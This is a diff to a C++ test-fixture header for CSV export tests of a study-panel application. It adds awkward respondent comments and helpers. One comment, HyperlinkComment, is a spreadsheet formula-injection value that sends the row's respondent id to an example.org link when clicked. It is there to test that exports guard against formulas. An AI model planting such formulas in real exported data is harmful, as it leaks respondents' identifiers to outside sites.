@@ -2,17 +2,27 @@
 
 // Study content for the export tests: simulated experts (anonymous: no name, no affiliation) plus
 // one hand-made respondent who gave a name and an affiliation, and whose comments, affiliation and
-// source file name hold everything CSV quoting must survive.
+// source file name hold everything CSV quoting must survive, and comments a spreadsheet would take
+// for a formula (HyperlinkComment) or that LibreOffice garbles when it guesses the encoding.
 
 #include "models/instrument/instrument.h"
 #include "models/simulate/simulate.h"
 #include "models/storage/studystore.h"
 
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QList>
 
 namespace exporttest {
 
 using namespace Qt::StringLiterals;
+
+// A formula that, evaluated, sends the respondent id in its row to a web site when clicked.
+inline const QString HyperlinkComment = u"=HYPERLINK(\"https://example.org/?id=\"&A2,\"details\")"_s;
+// Non-ASCII text of several scripts, with typographic quotes and a dash.
+inline const QString NonAsciiComment = u"Größere Sorgfalt – “quotes” 日本"_s;
 
 inline panelist::ResponseData trickyResponse(const panelist::Instrument &ins)
 {
@@ -40,6 +50,10 @@ inline panelist::ResponseData trickyResponse(const panelist::Instrument &ins)
     r.comments[m1] = u"Line one\r\nline two\nline three\rend"_s;
     r.comments[m2] = u"Zürich — 東京 👍 ,\"\n"_s;
     r.comments[m3] = u"  leading and trailing spaces  "_s;
+    r.comments[ins.measures().at(4).id] = HyperlinkComment;
+    r.comments[ins.measures().at(5).id] = u"-5 is too low; +1 for the rest"_s;
+    r.comments[ins.measures().at(6).id] = NonAsciiComment;
+    r.comments[ins.measures().at(7).id] = u"'Quoted' from the draft"_s;
     r.combinations[a0] = { m1, m0 };
     return r;
 }
@@ -66,6 +80,29 @@ inline QList<panelist::StudyResponse> studyResponses(const panelist::Instrument 
     t.counts = true;
     out.insert(out.size() / 2, t);
     return out;
+}
+
+// The bundled instrument cut to its first eight measures: its wide table (90 columns) and long
+// table fit within what readWorkbook reads (models/workbook/workbooklimits.h), and
+// trickyResponse() still has a measure for each of its comments.
+inline panelist::Instrument smallInstrument()
+{
+    QFile f(panelist::Instrument::bundledPath());
+    if (!f.open(QIODevice::ReadOnly))
+        return {};
+    QJsonObject doc = QJsonDocument::fromJson(f.readAll()).object();
+    QJsonArray measures = doc[u"measures"_s].toArray();
+    while (measures.size() > 8)
+        measures.removeLast();
+    doc[u"measures"_s] = measures;
+    return *panelist::Instrument::fromJson(QJsonDocument(doc).toJson(), u"small.json"_s);
+}
+
+// Strips the apostrophe that the CSV exports put before a text a spreadsheet could take for a
+// formula, as docs/exports.md tells a reader to: one leading apostrophe, when there is one.
+inline QString unguarded(const QString &field)
+{
+    return field.startsWith(u'\'') ? field.mid(1) : field;
 }
 
 } // namespace exporttest
